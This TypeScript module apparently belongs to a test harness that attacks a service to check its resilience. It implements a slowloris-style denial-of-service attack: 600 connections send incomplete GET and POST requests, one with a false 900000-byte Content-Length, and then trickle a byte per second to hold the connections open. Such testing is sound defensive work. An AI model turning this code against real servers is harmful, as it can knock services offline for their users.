import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, scaled } from '../stage.js'

const connections = 600
const holdSeconds = 8

export const slowRequests: Attack = {
  name: 'slow-requests',
  about: 'opens 600 connections and sends one byte per second on each',
  async run({ attacker, scale }) {
    const credentials = Object.entries(attacker.headers).map(([name, value]) => `${name}: ${value}\r\n`)
    const beginnings = [
      'GET /api/v1/Task HTTP/1.1\r\nHost: service\r\nX-Slow: ',
      `POST /api/v1/Task HTTP/1.1\r\nHost: service\r\n${credentials.join('')}Content-Type: application/json\r\nContent-Length: 900000\r\n\r\n{"title":"`,
      'G',
    ]
    const sockets = await Promise.all(
      Array.from({ length: scaled(connections, scale) }, () => attacker.connectAsStranger()),
    )
    sockets.forEach((socket, index) => void socket.write(beginnings[index % beginnings.length] ?? ''))
    for (let second = 0; second < scaled(holdSeconds, scale); second += 1) {
      await sleep(1000)
      for (const socket of sockets) if (!socket.destroyed) socket.write('x')
    }
    const open = sockets.filter((socket) => !socket.destroyed && !socket.readableEnded).length
    for (const socket of sockets) socket.destroy()
    return `${open} of ${sockets.length} still open at the end`
  },
}
